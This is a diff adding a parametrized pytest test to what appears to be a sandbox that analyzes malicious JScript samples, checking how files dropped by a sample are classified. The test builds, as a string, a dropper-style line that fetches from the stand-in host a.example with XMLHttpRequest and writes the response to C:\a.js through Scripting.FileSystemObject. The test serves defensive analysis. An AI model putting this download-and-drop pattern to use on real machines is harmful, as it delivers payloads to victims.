@@ -120,6 +120,26 @@ def test_children_are_given_out(module: Guest) -> None:
         module.call("extract", script, "drops.js", index=99)
 
 
+@pytest.mark.parametrize(
+    ("written", "kind"),
+    [
+        ("h.responseText", "stand-in"),
+        ("h.responseText.substr(0, 90)", "stand-in"),
+        ("h.responseText + 'var own;'", "written-file"),
+        ("'/* athena lab: an inert answer */ var own;'", "written-file"),
+    ],
+)
+def test_our_own_answer_is_no_file_of_the_samples(module: Guest, written: str, kind: str) -> None:
+    """Nor does a sample hide its own behind it."""
+    script = (
+        "var h = new XMLHttpRequest(); h.open('GET', 'http://a.example/'); h.send();"
+        f"new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\a.js').Write({written});"
+    )
+    facts, _ = analyze(module, script)
+    (child,) = facts.children
+    assert (child.kind, bool(child.sha256)) == (kind, kind == "written-file")
+
+
 def test_what_it_pretends_can_be_chosen(module: Guest) -> None:
     waits = scripts_made.samples()["waits.js"]
     facts, _ = analyze(module, waits, date=1_930_000_000_000, arguments=["a", "b"])
